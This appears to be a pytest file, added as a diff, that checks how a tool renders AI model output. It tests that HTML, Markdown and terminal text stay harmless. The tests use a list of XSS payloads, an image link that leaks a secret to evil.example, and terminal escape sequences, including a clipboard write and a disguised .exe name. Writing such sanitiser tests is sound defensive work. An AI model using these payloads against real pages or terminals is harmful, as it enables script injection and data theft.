@@ -1,0 +1,174 @@
+"""What is shown and saved: complete, and harmless whatever a model says."""
+
+from __future__ import annotations
+
+import re
+from decimal import Decimal
+from html.parser import HTMLParser
+
+import pytest
+
+from nbfuse.core.types import Answer, Failure, FusionResult, Score, Usage, Verdict
+from nbfuse.render.clean import clean
+from nbfuse.render.html import model_html, to_html
+from nbfuse.render.markdown import harmless, to_markdown
+from nbfuse.render.table import rows
+from nbfuse.render.text import to_text
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "![pixel](https://evil.example/p.png?q=secret)",
+    "[click](javascript:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    '<button data-commandlinker-command="x">go</button>',
+    "\\`<img src=x onerror=alert(1)>`",
+    "``a`<img src=x onerror=alert(1)>`b``",
+    "```\n<script>\n",
+    "</details></div><h1>fake</h1>",
+    '<a href="x" style="position:fixed">a</a>',
+    "a | b\n--|--\n<svg onload=alert(1)> | c",
+]
+SAFE_TAGS = {
+    *("div", "details", "summary", "strong", "small", "p", "table", "thead", "tbody", "tr", "th"),
+    *("td", "em", "a", "code", "pre", "ul", "ol", "li", "h4", "h5", "h6", "br", "del", "s", "hr"),
+    "blockquote",
+}
+
+
+def result(text: str = "**42**", **more: object) -> FusionResult:
+    usage = Usage(10, 20, cost=Decimal("0.0012"))
+    return FusionResult(
+        run="r",
+        prompt="p",
+        mode="best-of",
+        text=text,
+        verdict=Verdict(
+            decided_by="judge",
+            best="a",
+            reason=f"a is right. {text}",
+            scores=(Score(member="a", p_right=0.9),),
+        ),
+        answers=(
+            Answer(member="a", spec="x:a", text=text, usage=usage, seconds=1.5),
+            Answer(
+                member="b",
+                spec="x:b",
+                text=text,
+                status="partial",
+                failure=Failure("StreamBrokenError", f"it broke: {text}", "again"),
+            ),
+            Answer(member="c", spec="x:c", status="failed", failure=Failure("AuthError", "no key")),
+            Answer(member="d", spec="x:d", text="late", judged=False, usage=usage),
+        ),
+        judging=(Answer(member="j", spec="x:j", text="{}", usage=usage, seconds=0.5),),
+        notes=(f"note {text}",),
+        seconds=2.0,
+        version="0.1.0",
+        **more,
+    )
+
+
+class Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict]] = []
+        self.depth = 0
+
+    def handle_starttag(self, tag: str, attrs: list) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def tags(html: str) -> list[tuple[str, dict]]:
+    parser = Tags()
+    parser.feed(html)
+    return parser.found
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_html_from_a_model_can_only_be_read(text: str) -> None:
+    for tag, attributes in tags(to_html(result(text))):
+        assert tag in SAFE_TAGS
+        if tag not in ("td", "th") or set(attributes) - {"style", "scope"}:
+            assert set(attributes) <= {"href", "title", "class", "open", "rel", "start"}
+        assert attributes.get("href", "https:").startswith(("http:", "https:", "mailto:"))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_model_can_not_leave_its_own_details(text: str) -> None:
+    html = to_html(result(text))
+    assert html.count("<details") == html.count("</details>") == 5
+    assert html.endswith("</table>\n</div>")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_markdown_from_a_model_holds_no_html_and_no_image(text: str) -> None:
+    from markdown_it import MarkdownIt
+
+    def walk(tokens: list) -> list[str]:
+        return [t.type for t in tokens] + [k for t in tokens for k in walk(t.children or [])]
+
+    kinds = walk(MarkdownIt("commonmark").enable("table").parse(to_markdown(result(text))))
+    assert not {"html_block", "html_inline", "image"} & set(kinds)
+
+
+def test_harmless_markdown_is_left_as_it_is() -> None:
+    text = "# Title\n\n`a < b` and\n\n```html\n<b>code</b>\n```\n\n- **x** < y"
+    assert harmless(text) == text
+
+
+def test_terminal_escapes_never_reach_a_terminal() -> None:
+    evil = (
+        "ok\x1b[2J\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x1b\\\x9b31m\u202egnp.exe\x08\x00 end\r\nnext"
+    )
+    assert clean(evil) == "okgnp.exe end\nnext"
+    assert "\x1b" not in to_text(result(evil))
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", to_text(result(evil)))
+
+
+def test_markdown_becomes_html_with_headings_below_the_notebooks_own() -> None:
+    html = model_html("# Big\n\n**bold** `x<y`\n\n| a |\n|--|\n| 1 |\n\n```python\nprint(1)\n```")
+    for expected in ("<h4>Big</h4>", "<strong>bold</strong>", "<code>x&lt;y</code>", "<td>1</td>"):
+        assert expected in html
+    assert '<code class="language-python">print(1)\n</code>' in html
+
+
+def test_lines_of_a_model_stay_lines() -> None:
+    assert model_html("one\ntwo") == "<p>one<br>\ntwo</p>\n"
+
+
+def test_an_image_leaves_its_words_and_a_visible_link() -> None:
+    html = model_html("![a cat](https://example.org/cat.png)")
+    assert "<img" not in html
+    assert 'href="https://example.org/cat.png"' in html
+    assert "a cat" in html
+
+
+def test_math_is_left_to_the_notebook() -> None:
+    assert "$x_1 + y_2$" in model_html("so $x_1 + y_2$ it is")
+
+
+def test_the_fused_answer_is_open_on_top_and_members_are_closed() -> None:
+    html = to_html(result())
+    details = [attributes for tag, attributes in tags(html) if tag == "details"]
+    assert ["open" in attributes for attributes in details] == [True, False, False, False, False]
+    assert html.index("Fused answer") < html.index("<summary>a ·")
+    for nothing in ("<script", "<style", "id=", "color"):
+        assert nothing not in html
+
+
+def test_the_table_has_time_tokens_price_and_verdict() -> None:
+    table = {row.model: row for row in rows(result())}
+    assert table["a"] == ("a", "1.50 s", "20", "$0.0012", "best, P(right) 0.90")
+    assert table["b"].price == "?"
+    assert "it broke" in table["b"].verdict
+    assert table["c"].price == "$0"
+    assert table["d"].verdict == "late, not judged"
+    assert table["j"].verdict == "judging, 1 call"
+    assert table["all"].price == "?"  # b's price is unknown, so the sum is
+
+
+def test_plain_text_begins_with_the_answer() -> None:
+    text = to_text(result("42"))
+    assert text.startswith("42\n\n")
+    assert "[c]\n(no key)" in text
